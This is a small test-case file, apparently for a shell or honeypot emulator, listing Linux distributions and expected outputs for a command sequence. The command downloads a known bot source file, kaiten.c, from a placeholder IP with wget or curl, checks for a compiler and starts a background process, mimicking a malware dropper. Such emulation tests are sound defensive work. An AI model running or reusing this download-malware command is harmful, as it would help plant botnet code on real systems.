# on: debian ubuntu20 ubuntu22 rocky9 centos7 fedora arch alpine
# want: no compiler
# want: 1
cd /tmp; (wget -q http://203.0.113.5/kaiten.c || curl -sO http://203.0.113.5/kaiten.c); which gcc || echo no compiler; nohup sleep 500 >/dev/null 2>&1 &
sleep 0; ps aux | grep -c '[s]leep 500'
